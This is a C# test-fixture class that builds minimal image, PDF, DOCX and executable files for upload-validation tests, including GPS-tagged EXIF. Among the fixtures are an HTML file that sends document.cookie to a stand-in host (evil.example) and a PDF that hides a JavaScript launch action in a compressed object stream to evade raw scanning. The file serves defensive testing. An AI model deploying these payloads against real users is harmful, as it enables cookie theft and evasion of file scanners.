using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;

namespace IkmaWorkflow.Testing;

/// <summary>
/// Small real files built byte by byte for the upload tests: images with and without EXIF location, PDFs with and
/// without active content, a DOCX, and the disguised files an attacker sends (an executable or HTML named photo.jpg).
/// </summary>
public static class TestFiles
{
    /// <summary>Latitude 6° 13' 30" S, as the GPS block of <see cref="ExifWithGps"/> stores it (three rationals).</summary>
    public static readonly byte[] LatitudeBytes = Rationals((6, 1), (13, 1), (3000, 100));

    /// <summary>
    /// An 8×8 grey baseline JPEG (one DC-only block per component: the smallest a decoder draws), with an APP1 EXIF
    /// segment holding a GPS position (near Lapas Cipinang) when <paramref name="withGpsExif"/>, and an APP1 XMP
    /// segment when <paramref name="withXmp"/>.
    /// </summary>
    public static byte[] Jpeg(bool withGpsExif, bool withXmp = false, byte[]? trailer = null)
    {
        using var jpeg = new MemoryStream();
        jpeg.Write([0xFF, 0xD8]);
        Segment(jpeg, 0xE0, [.. "JFIF\0"u8, 1, 1, 0, 0, 1, 0, 1, 0, 0]);
        if (withGpsExif)
        {
            Segment(jpeg, 0xE1, [.. "Exif\0\0"u8, .. ExifWithGps()]);
        }

        if (withXmp)
        {
            Segment(jpeg, 0xE1, [.. "http://ns.adobe.com/xap/1.0/\0"u8, .. "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><exif:GPSLatitude>6,13.5S</exif:GPSLatitude></x:xmpmeta>"u8]);
        }

        Segment(jpeg, 0xDB, [0x00, .. Enumerable.Repeat((byte)1, 64)]);
        Segment(jpeg, 0xC0, [8, 0, 8, 0, 8, 1, 1, 0x11, 0]);
        // One code of length 1 for DC category 0 and one for the AC end-of-block: the block is flat grey.
        Segment(jpeg, 0xC4, [0x00, 1, .. new byte[15], 0x00]);
        Segment(jpeg, 0xC4, [0x10, 1, .. new byte[15], 0x00]);
        Segment(jpeg, 0xDA, [1, 1, 0x00, 0, 63, 0]);
        jpeg.Write([0x3F, 0xFF, 0xD9]);
        jpeg.Write(trailer ?? []);
        return jpeg.ToArray();
    }

    /// <summary>A 1×1 red PNG, with an <c>eXIf</c> chunk holding a GPS position when <paramref name="withGpsExif"/>.</summary>
    public static byte[] Png(bool withGpsExif)
    {
        using var png = new MemoryStream();
        png.Write([0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A]);
        PngChunk(png, "IHDR", [0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]);
        if (withGpsExif)
        {
            PngChunk(png, "eXIf", ExifWithGps());
        }

        PngChunk(png, "IDAT", Zlib([0, 0xFF, 0, 0]));
        PngChunk(png, "IEND", []);
        return png.ToArray();
    }

    /// <summary>
    /// A 1×1 lossless WebP in the extended format (VP8X), with an <c>EXIF</c> chunk holding a GPS position when
    /// <paramref name="withGpsExif"/>.
    /// </summary>
    public static byte[] WebP(bool withGpsExif)
    {
        var vp8l = Vp8lRedPixel();
        using var body = new MemoryStream();
        body.Write("WEBP"u8);
        var vp8x = new byte[10];
        vp8x[0] = (byte)(withGpsExif ? 0x08 : 0x00);
        RiffChunk(body, "VP8X", vp8x);
        RiffChunk(body, "VP8L", vp8l);
        if (withGpsExif)
        {
            RiffChunk(body, "EXIF", ExifWithGps());
        }

        using var riff = new MemoryStream();
        riff.Write("RIFF"u8);
        Span<byte> size = stackalloc byte[4];
        BinaryPrimitives.WriteUInt32LittleEndian(size, (uint)body.Length);
        riff.Write(size);
        riff.Write(body.ToArray());
        return riff.ToArray();
    }

    /// <summary>
    /// A lossless WebP bitstream (VP8L) of one opaque red pixel: signature 0x2F, width-1 and height-1 (14 bits each,
    /// both 0), no alpha hint, version 0; no transform, no colour cache, no meta prefix codes; then five "simple"
    /// prefix codes of one symbol each (green 0, red 255, blue 0, alpha 255, distance 0), so the pixel takes no bits.
    /// </summary>
    public static byte[] Vp8lRedPixel()
    {
        var bits = new List<bool>();
        void Put(uint value, int count)
        {
            for (var i = 0; i < count; i++)
            {
                bits.Add(((value >> i) & 1) != 0);
            }
        }

        Put(0, 32);
        Put(0, 3);
        foreach (var symbol in new uint[] { 0, 255, 0, 255, 0 })
        {
            Put(1, 1);
            Put(0, 1);
            Put(1, 1);
            Put(symbol, 8);
        }

        var bytes = new byte[1 + ((bits.Count + 7) / 8)];
        bytes[0] = 0x2F;
        for (var i = 0; i < bits.Count; i++)
        {
            if (bits[i])
            {
                bytes[1 + (i / 8)] |= (byte)(1 << (i % 8));
            }
        }

        return bytes;
    }

    /// <summary>A one-page PDF whose catalogue carries <paramref name="catalogueExtra"/>; extra objects are appended as given.</summary>
    public static byte[] Pdf(string catalogueExtra = "", params byte[][] extraObjects)
    {
        ArgumentNullException.ThrowIfNull(extraObjects);
        using var pdf = new MemoryStream();
        pdf.Write("%PDF-1.7\n%\xE2\xE3\xCF\xD3\n"u8);
        pdf.Write(Encoding.Latin1.GetBytes($"1 0 obj\n<< /Type /Catalog /Pages 2 0 R {catalogueExtra}>>\nendobj\n"));
        pdf.Write("2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"u8);
        pdf.Write("3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>\nendobj\n"u8);
        var content = Zlib("BT /F1 12 Tf 50 780 Td (Surat pelaksanaan kegiatan - contoh) Tj ET"u8.ToArray());
        pdf.Write(Encoding.Latin1.GetBytes($"4 0 obj\n<< /Length {content.Length} /Filter /FlateDecode >>\nstream\n"));
        pdf.Write(content);
        pdf.Write("\nendstream\nendobj\n"u8);
        foreach (var extra in extraObjects)
        {
            pdf.Write(extra);
        }

        pdf.Write("trailer\n<< /Root 1 0 R >>\n%%EOF\n"u8);
        return pdf.ToArray();
    }

    /// <summary>
    /// A PDF whose JavaScript action hides in a Flate-compressed object stream (<c>/Type /ObjStm</c>), so the raw file
    /// shows neither <c>/JavaScript</c> nor <c>/JS</c>.
    /// </summary>
    public static byte[] PdfWithJavaScriptInObjectStream()
    {
        var objects = Zlib("5 0 << /S /JavaScript /JS (app.launchURL\\(\"http://evil.example\"\\)) >>"u8.ToArray());
        using var stream = new MemoryStream();
        stream.Write(Encoding.Latin1.GetBytes($"6 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length {objects.Length} /Filter /FlateDecode >>\nstream\n"));
        stream.Write(objects);
        stream.Write("\nendstream\nendobj\n"u8);
        return Pdf("/OpenAction 5 0 R ", stream.ToArray());
    }

    /// <summary>A minimal Word document: a ZIP with <c>[Content_Types].xml</c> and <c>word/document.xml</c> (and <c>word/vbaProject.bin</c> when <paramref name="withMacros"/>).</summary>
    public static byte[] Docx(bool withMacros = false)
    {
        var entries = new Dictionary<string, string>
        {
            ["[Content_Types].xml"] = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>",
            ["word/document.xml"] = "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>Laporan</w:t></w:r></w:p></w:body></w:document>",
        };
        if (withMacros)
        {
            entries["word/vbaProject.bin"] = "Attribute VB_Name = \"AutoOpen\"";
        }

        return Zip(entries);
    }

    /// <summary>A ZIP archive of text entries.</summary>
    public static byte[] Zip(IReadOnlyDictionary<string, string> entries)
    {
        ArgumentNullException.ThrowIfNull(entries);
        using var zip = new MemoryStream();
        using (var archive = new ZipArchive(zip, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text) in entries)
            {
                using var writer = new StreamWriter(archive.CreateEntry(name).Open(), Encoding.UTF8);
                writer.Write(text);
            }
        }

        return zip.ToArray();
    }

    /// <summary>The start of a Windows executable: the MZ header and its DOS stub text.</summary>
    public static byte[] Executable()
    {
        var exe = new byte[256];
        "MZ"u8.CopyTo(exe);
        BinaryPrimitives.WriteInt32LittleEndian(exe.AsSpan(0x3C), 0x80);
        "This program cannot be run in DOS mode.\r\n"u8.CopyTo(exe.AsSpan(0x4E));
        "PE\0\0"u8.CopyTo(exe.AsSpan(0x80));
        return exe;
    }

    /// <summary>An HTML page with a script.</summary>
    public static byte[] Html() => "<!DOCTYPE html>\n<html><body><script>fetch('http://evil.example/?c='+document.cookie)</script></body></html>\n"u8.ToArray();

    /// <summary>
    /// A big-endian TIFF block as EXIF stores it: IFD0 points to a GPS IFD with latitude 6°13'30" S and longitude
    /// 106°52'48" E.
    /// </summary>
    public static byte[] ExifWithGps()
    {
        using var tiff = new MemoryStream();
        tiff.Write("MM\0*"u8);
        Write32(tiff, 8);
        // IFD0 at 8: one entry, GPSInfo (0x8825, LONG) pointing to the GPS IFD at 26; no next IFD.
        Write16(tiff, 1);
        Entry(tiff, 0x8825, 4, 1, 26);
        Write32(tiff, 0);
        // GPS IFD at 26: four entries (54 bytes), then the six rationals at 80.
        Write16(tiff, 4);
        Entry(tiff, 0x0001, 2, 2, 0x53000000);
        Entry(tiff, 0x0002, 5, 3, 80);
        Entry(tiff, 0x0003, 2, 2, 0x45000000);
        Entry(tiff, 0x0004, 5, 3, 104);
        Write32(tiff, 0);
        tiff.Write(LatitudeBytes);
        tiff.Write(Rationals((106, 1), (52, 1), (4800, 100)));
        return tiff.ToArray();
    }

    /// <summary>Zlib-compressed <paramref name="data"/>.</summary>
    public static byte[] Zlib(byte[] data)
    {
        using var compressed = new MemoryStream();
        using (var zlib = new ZLibStream(compressed, CompressionLevel.Optimal, leaveOpen: true))
        {
            zlib.Write(data);
        }

        return compressed.ToArray();
    }

    /// <summary>Whether <paramref name="content"/> holds <paramref name="part"/> anywhere.</summary>
    public static bool Contains(byte[] content, ReadOnlySpan<byte> part) => content.AsSpan().IndexOf(part) >= 0;

    private static void Segment(Stream jpeg, byte marker, byte[] data)
    {
        jpeg.Write([0xFF, marker, (byte)((data.Length + 2) >> 8), (byte)(data.Length + 2)]);
        jpeg.Write(data);
    }

    private static void PngChunk(Stream png, string type, byte[] data)
    {
        Span<byte> number = stackalloc byte[4];
        BinaryPrimitives.WriteInt32BigEndian(number, data.Length);
        png.Write(number);
        byte[] typeAndData = [.. Encoding.ASCII.GetBytes(type), .. data];
        png.Write(typeAndData);
        BinaryPrimitives.WriteUInt32BigEndian(number, Crc32(typeAndData));
        png.Write(number);
    }

    private static void RiffChunk(Stream riff, string type, byte[] data)
    {
        riff.Write(Encoding.ASCII.GetBytes(type));
        Span<byte> size = stackalloc byte[4];
        BinaryPrimitives.WriteUInt32LittleEndian(size, (uint)data.Length);
        riff.Write(size);
        riff.Write(data);
        if (data.Length % 2 == 1)
        {
            riff.WriteByte(0);
        }
    }

    private static void Entry(Stream tiff, ushort tag, ushort type, uint count, uint value)
    {
        Write16(tiff, tag);
        Write16(tiff, type);
        Write32(tiff, count);
        Write32(tiff, value);
    }

    private static void Write16(Stream stream, ushort value)
    {
        Span<byte> bytes = stackalloc byte[2];
        BinaryPrimitives.WriteUInt16BigEndian(bytes, value);
        stream.Write(bytes);
    }

    private static void Write32(Stream stream, uint value)
    {
        Span<byte> bytes = stackalloc byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(bytes, value);
        stream.Write(bytes);
    }

    private static byte[] Rationals(params (uint Numerator, uint Denominator)[] values)
    {
        var bytes = new byte[values.Length * 8];
        for (var i = 0; i < values.Length; i++)
        {
            BinaryPrimitives.WriteUInt32BigEndian(bytes.AsSpan(i * 8), values[i].Numerator);
            BinaryPrimitives.WriteUInt32BigEndian(bytes.AsSpan((i * 8) + 4), values[i].Denominator);
        }

        return bytes;
    }

    // CRC-32 (ISO 3309, as PNG uses), bit by bit: a few hundred bytes per test file.
    private static uint Crc32(byte[] data)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in data)
        {
            crc ^= b;
            for (var bit = 0; bit < 8; bit++)
            {
                crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
            }
        }

        return ~crc;
    }
}
